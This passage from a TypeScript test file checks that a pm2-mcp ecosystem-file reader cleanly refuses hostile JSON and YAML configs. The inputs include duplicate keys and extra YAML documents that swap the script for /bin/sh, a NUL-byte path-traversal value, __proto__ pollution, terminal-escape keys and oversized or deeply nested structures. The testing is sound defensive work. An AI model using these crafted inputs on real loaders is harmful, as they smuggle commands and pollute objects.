    ext: '.json', content: `[{ "script": "a.js", "name": "${SECRET}", "args": [${Array(100_001).fill('0').join(',')}] }]`,
    expected: '{file}, app #1, "args": the file expands past 100000 values here (a YAML alias counts at every use).',
  },
  {
    name: 'a YAML mapping of 20 000 keys (the duplicate-key check is quadratic)',
    ext: '.yaml', content: `script: a.js\nname: ${SECRET}\nenv:\n${Array.from({ length: 20_000 }, (_, i) => ` K${i}: 1\n`).join('')}`,
    expected: 'The ecosystem file {file} holds a list or mapping of more than 128 entries (line 4, column 2).',
  },
  {
    name: 'a YAML mapping of 129 keys',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n  env: {${Array.from({ length: 129 }, (_, i) => `K${i}: 1`).join(', ')}}\n`,
    expected: 'The ecosystem file {file} holds a list or mapping of more than 128 entries (line 3, column 8).',
  },
  // Duplicate keys and document streams.
  {
    name: 'a duplicate key: a reader sees one script, pm2 would run the other',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n  script: /bin/sh\n`,
    expected: 'The ecosystem file {file} is not valid YAML: a key appears twice in one mapping (line 3, column 3).',
  },
  {
    name: 'a duplicate key in a flow mapping',
    ext: '.yaml', content: `- { script: a.js, env: { A: ${SECRET}, A: x } }\n`,
    expected: 'The ecosystem file {file} is not valid YAML: a key appears twice in one mapping (line 1, column 45).',
  },
  {
    name: 'a duplicate key spelled as a number and as a string',
    ext: '.yaml', content: `- script: a.js\n  env: { 1: ${SECRET}, "1": x }\n`,
    expected: 'The ecosystem file {file} is not valid YAML: a key appears twice in one mapping (line 2, column 29).',
  },
  {
    name: 'two documents',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n---\n- script: /bin/sh\n`,
    expected: 'The ecosystem file {file} holds more than one YAML document (line 3, column 1).',
  },
  {
    name: 'a document after an end marker',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n...\n- script: /bin/sh\n`,
    expected: 'The ecosystem file {file} holds more than one YAML document (line 4, column 1).',
  },
  // Names from the file go into messages escaped and cut.
  {
    name: 'a key with terminal escapes and a right-to-left override',
    ext: '.json', content: json([{ script: 'a.js', name: SECRET, 'x\u001b[31m\u202ey': 1 }]),
    expected: '{file}, app #1: "x\\u001b[31m\\u{202e}y" is not a field pm2-mcp starts apps with.',
  },
  {
    name: 'a key of 100 000 characters',
    ext: '.json', content: json([{ script: 'a.js', name: SECRET, ['k'.repeat(100_000)]: 1 }]),
    expected: `{file}, app #1: "${'k'.repeat(64)}…" is not a field pm2-mcp starts apps with.`,
  },
  {
    name: '80 000 unknown keys',
    ext: '.json', content: JSON.stringify([{ script: 'a.js', name: SECRET, ...Object.fromEntries(Array.from({ length: 80_000 }, (_, i) => [`k${i}`, 1])) }]),
    expected: `{file}, app #1: ${Array.from({ length: 20 }, (_, i) => `"k${i}" is not a field pm2-mcp starts apps with`).join('; ')}; and 79980 more problems.`,
  },
  {
    name: 'YAML __proto__ does not reach Object.prototype',
    ext: '.yaml', content: `- script: a.js\n  __proto__: { polluted: ${SECRET} }\n`,
    expected: '{file}, app #1: "__proto__" is not a field pm2-mcp starts apps with.',
  },
];

test('attack files are refused cleanly, naming the file (and the app and field where there is one), never quoting it', async () => {
  for (const a of ATTACKS) {
    const file = await fixture(a.ext, a.content);
    assert.ok(Buffer.byteLength(a.content) <= 1024 * 1024, `${a.name}: the fixture is over the file bound, so it tests nothing else`);
    const err = await assertRefused(readEcosystem(file), [], a.name);
    assert.equal(err.message, a.expected.replace('{file}', file), a.name);
    assert.ok(!err.message.includes(SECRET), `${a.name}: the message quotes the file`);
    assert.ok(err.message.length < 2000, `${a.name}: a message of ${err.message.length} characters`);
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype was polluted');
});

test('the depth bound: 32 levels are read, 33 refused, in JSON and in YAML alike', async () => {
  // [ {app} ] puts the app at level 2 and args at level 3: 29 more lists make 32 levels.
  const doc = (lists: number) => `[{ "script": "a.js", "args": ${nested(lists, '')} }]`;
  for (const ext of ['.json', '.yaml']) {
    const ok = await fixture(ext, doc(30));
    await assertRefused(readEcosystem(ok), [`${ok}, app #1: "args[0]" must be a string of at most 4096 characters.`], `${ext}, 32 levels`);
    const deep = await fixture(ext, doc(31));
    const expected = ext === '.json' ? `${deep}, app #1, "args": it nests lists and objects more than 32 levels deep.` : `The ecosystem file ${deep} nests lists and mappings more than 32 levels deep (line 1, column 60).`;
    await assertRefused(readEcosystem(deep), [expected], `${ext}, 33 levels`);
  }
});

test('the alias bounds: 100 uses are read, 101 refused', async () => {
  const file = (uses: number) => `- script: &s a.js\n  args: [${Array(Math.min(uses, 100)).fill('*s').join(', ')}]\n  node_args: [${Array(Math.max(uses - 100, 0)).fill('*s').join(', ')}]\n`;
  const ok = await fixture('.yaml', file(100));
  assert.deepEqual((await readEcosystem(ok)).apps, [{ script: 'a.js', args: Array(100).fill('a.js'), node_args: [] }]);
  const over = await fixture('.yaml', file(101));
  await assertRefused(readEcosystem(over), [`The ecosystem file ${over} uses more than 100 aliases`], '101 aliases');
});

test('the expansion bound: 1 MiB of text is read, one character more refused', async () => {
  // Keys count too: script, cwd and args are 13 characters; then a.js, the anchored string and
  // its 99 uses, and a last argument that makes up the rest.
  const rest = 1024 * 1024 - 13 - 4 - 100 * 10_000;
  const file = (extra: number) => `- script: a.js\n  cwd: &s ${'x'.repeat(10_000)}\n  args: [${Array(99).fill('*s').join(', ')}, ${'y'.repeat(rest + extra)}]\n`;
  const ok = await fixture('.yaml', file(0));
  const err = await assertRefused(readEcosystem(ok), [`${ok}, app #1: "cwd" must be a string of 1 to 4096 characters; "args[0]" must be`], 'exactly 1 MiB: past the bound, the field checks');
  assert.ok(!err.message.includes('expands past'), err.message);
  const over = await fixture('.yaml', file(1));
  await assertRefused(readEcosystem(over), [`${over}, app #1, "args": the file expands past 1 MiB of text here`], 'one more');
});

test('the value bound: 100 000 values are read, one more refused', async () => {
  // script and args count one each, the list's items one each.
  const file = (items: number) => `[{ "script": "a.js", "args": [${Array(items).fill('0').join(',')}] }]`;
  const ok = await fixture('.json', file(99_998));
  await assertRefused(readEcosystem(ok), [`${ok}, app #1: "args" must be a list of at most 100 arguments (it has 99998).`], 'exactly 100 000');
  const over = await fixture('.json', file(99_999));
  await assertRefused(readEcosystem(over), [`${over}, app #1, "args": the file expands past 100000 values here`], 'one more');
});

test('the bounds of the argument path, field by field: the largest value is read, one more refused', async () => {
  const list = (n: number, item = 'a') => Array<string>(n).fill(item);
  const env = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`V${i}`, 'x']));
  const cases: { field: string; ok: unknown[]; refused: { value: unknown; expected: string }[] }[] = [
    { field: 'name', ok: ['a', 'n'.repeat(128)], refused: [{ value: 'n'.repeat(129), expected: '"name" must be a string of 1 to 128 characters' }] },
    { field: 'namespace', ok: ['n'.repeat(128)], refused: [{ value: 'n'.repeat(129), expected: '"namespace" must be a string of 1 to 128 characters' }, { value: '', expected: '"namespace" must be a string of 1 to 128 characters' }] },
    ...['script', 'cwd', 'interpreter', 'out_file', 'error_file', 'log_file'].map((field) => ({
      field, ok: ['p'.repeat(4096)],
      refused: [{ value: 'p'.repeat(4097), expected: `"${field}" must be a string of 1 to 4096 characters` }, { value: '', expected: `"${field}" must be a string of 1 to 4096 characters` }],
    })),
    ...['args', 'interpreter_args', 'node_args'].map((field) => ({
      field, ok: ['a'.repeat(8192), '', list(100, 'a'.repeat(4096)), [], ['']],
      refused: [
        { value: 'a'.repeat(8193), expected: `"${field}" must be at most 8192 characters as one string` },
        { value: list(101), expected: `"${field}" must be a list of at most 100 arguments (it has 101)` },
        { value: ['a', 'a'.repeat(4097)], expected: `"${field}[1]" must be a string of at most 4096 characters` },
        { value: ['a', true, null], expected: `"${field}[1]" must be a string of at most 4096 characters; "${field}[2]" must be a string of at most 4096 characters` },
      ],
    })),
    {
      field: 'env',
      ok: [env(100), {}, { A: 'v'.repeat(32768), _x: 1, B: true, C: 0.25, D: -3, E: 9007199254740991, ['Z'.repeat(128)]: '' }],
      refused: [
        { value: env(101), expected: '"env" holds 101 variables; at most 100' },
        { value: { A: 'v'.repeat(32769) }, expected: '"env.A" is longer than 32768 characters' },
        { value: { A: Number.MAX_SAFE_INTEGER + 2 }, expected: '"env.A" is a number too large to keep exactly: quote it' },
        { value: { '1BAD': 'x' }, expected: '"env": "1BAD" is not a valid environment variable name' },
        { value: { 'A-B': 'x' }, expected: '"env": "A-B" is not a valid environment variable name' },
        { value: { 'A B': 'x' }, expected: '"env": "A B" is not a valid environment variable name' },
        { value: { 'A=B': 'x' }, expected: '"env": "A=B" is not a valid environment variable name' },
        { value: { '': 'x' }, expected: '"env": "" is not a valid environment variable name' },
        { value: { ['Z'.repeat(129)]: 'x' }, expected: `"env": "${'Z'.repeat(64)}…" is not a valid environment variable name` },
        { value: { 'É': 'x' }, expected: '"env": "É" is not a valid environment variable name' },
        { value: { 'A\u200bB': 'x' }, expected: '"env": "A\\u{200b}B" is not a valid environment variable name' },
        { value: { '9': 'x', OK: 'x', 'A\nB': 'x' }, expected: '"env": "9" is not a valid environment variable name; "env": "A\\nB" is not a valid environment variable name' },
      ],
    },
    {
      field: 'instances', ok: [1, 64],
      refused: [0, 65, 1.5, -1, '2', true].map((value) => ({ value, expected: '"instances" must be a whole number from 1 to 64' })),
    },
    ...['max_restarts', 'min_uptime', 'restart_delay', 'kill_timeout'].map((field) => ({
      field, ok: [0, 2147483647],
      refused: [-1, 1.5, 2147483648, '100', null].map((value) => ({ value, expected: `"${field}" must be a whole number from 0 to 2147483647` })),
    })),
    {
      field: 'max_memory_restart', ok: ['200M', '1g', '300k', '1024', '999999999G'],
      refused: ['200MB', '1T', '-1', '1.5G', ' 200M', '1234567890M', '', 200].map((value) => ({ value, expected: '"max_memory_restart" must be a size such as "200M" (up to 9 digits, then K, M or G)' })),
    },
    {
      field: 'exec_mode', ok: ['fork', 'cluster', 'fork_mode', 'cluster_mode'],
      refused: ['spawn', 'FORK', '', 1].map((value) => ({ value, expected: '"exec_mode" must be fork or cluster' })),
    },
  ];
  for (const c of cases) {
    for (const value of c.ok) {
      const file = await fixture('.json', json([{ script: 'a.js', [c.field]: value }]));
      const read = await readEcosystem(file).catch((err: Error) => assert.fail(`${c.field} ${JSON.stringify(value).slice(0, 40)}: ${err.message.slice(-200)}`));
      assert.deepEqual(read.apps, c.field === 'script' ? [{ script: value }] : [{ script: 'a.js', [c.field]: value }], c.field);
    }
    for (const r of c.refused) {
      const file = await fixture('.json', json([{ script: 'a.js', [c.field]: r.value }]));
      const err = await assertRefused(readEcosystem(file), [], `${c.field} ${JSON.stringify(r.value).slice(0, 40)}`);
      assert.equal(err.message, `${file}, app #1: ${r.expected}.`, `${c.field} ${JSON.stringify(r.value).slice(0, 40)}`);
    }
  }
});

test('NUL bytes are refused in every key and value, naming the app and the field', async () => {
  const cases: { name: string; ext: '.json' | '.yaml'; content: string; expected: string }[] = [
    { name: 'in a field name', ext: '.json', content: json([{ name: 'ok', script: 'a.js' }, { script: 'a.js', 'scr\0ipt': 'b.js' }]), expected: 'app #2: the field name "scr\\u0000ipt" holds a NUL byte' },
    { name: 'in the script', ext: '.json', content: json([{ script: 'a.js\0../../evil.js' }]), expected: 'app #1: "script" holds a NUL byte' },
    { name: 'in the name', ext: '.json', content: json([{ script: 'a.js', name: 'api\0' }]), expected: 'app #1: "name" holds a NUL byte' },
    { name: 'in an env name', ext: '.json', content: json([{ script: 'a.js', env: { OK: '1', 'A\0B': 'x' } }]), expected: 'app #1: "env" holds a NUL byte in a key' },
    { name: 'in an env value', ext: '.json', content: json([{ script: 'a.js', env: { OK: '1', A: 'x\0y' } }]), expected: 'app #1: "env.A" holds a NUL byte' },
    { name: 'in an arg', ext: '.json', content: json([{ script: 'a.js', args: ['--ok', '--x\0--y'] }]), expected: 'app #1: "args[1]" holds a NUL byte' },
    { name: 'in an args string', ext: '.json', content: json([{ script: 'a.js', args: '--x \0' }]), expected: 'app #1: "args" holds a NUL byte' },
    { name: 'in node_args', ext: '.json', content: json([{ script: 'a.js', node_args: ['\0'] }]), expected: 'app #1: "node_args[0]" holds a NUL byte' },
    { name: 'in a log path', ext: '.json', content: json([{ script: 'a.js', out_file: 'out.log\0' }]), expected: 'app #1: "out_file" holds a NUL byte' },
    { name: 'YAML "\\0" escape in an env value', ext: '.yaml', content: '- script: a.js\n  env:\n    A: "x\\0y"\n', expected: 'app #1: "env.A" holds a NUL byte' },
    { name: 'YAML "\\x00" escape in an arg', ext: '.yaml', content: '- script: a.js\n  args: [ok, "\\x00"]\n', expected: 'app #1: "args[1]" holds a NUL byte' },
    { name: 'YAML "\\0" in a key', ext: '.yaml', content: '- script: a.js\n  "name\\0": x\n', expected: 'app #1: the field name "name\\u0000" holds a NUL byte' },
    { name: 'several at once, with other problems', ext: '.json', content: json([{ script: 'a\0', env: { A: '\0' }, instances: 0 }]), expected: 'app #1: "script" holds a NUL byte; "env.A" holds a NUL byte; "instances" must be a whole number from 1 to 64' },
  ];
  for (const c of cases) {
    const file = await fixture(c.ext, c.content);
    const err = await assertRefused(readEcosystem(file), [], c.name);
    assert.equal(err.message, `${file}, ${c.expected}.`, c.name);
    assert.ok(!err.message.includes('\0'), `${c.name}: the message holds a raw NUL byte`);
  }
  // Outside a field pm2-mcp carries, a NUL byte is refused with the key.
  const top = await fixture('.json', json({ apps: [{ script: 'a.js' }], 'x\0': 1 }));
  await assertRefused(readEcosystem(top), [`${top}: top-level "x\\u0000" is not supported`], 'a top-level key');
});

test('the yaml package loads only when a YAML file is read', () => {
  // A fresh process: this one has loaded yaml already. The package is CommonJS, so it shows in
  // the require cache once imported.
  const json = join(dir, 'lazy.json');
  const yaml = join(dir, 'lazy.yaml');
  execFileSync('sh', ['-c', `printf '[{"script":"a.js"}]' > ${json} && printf -- '- script: a.js\\n' > ${yaml}`]);
  const probe = `
    import { createRequire } from 'node:module';
    import { readEcosystem } from ${JSON.stringify(new URL('../../src/pm2/ecosystem.ts', import.meta.url).href)};
    const loaded = () => Object.keys(createRequire(import.meta.url).cache).some((k) => k.includes('/node_modules/yaml/'));
    await readEcosystem(${JSON.stringify(json)});
    const afterJson = loaded();
    await readEcosystem(${JSON.stringify(yaml)});
    console.log(JSON.stringify({ afterJson, afterYaml: loaded() }));`;
  const out = execFileSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', probe], { encoding: 'utf8' });
  assert.deepEqual(JSON.parse(out), { afterJson: false, afterYaml: true });
});
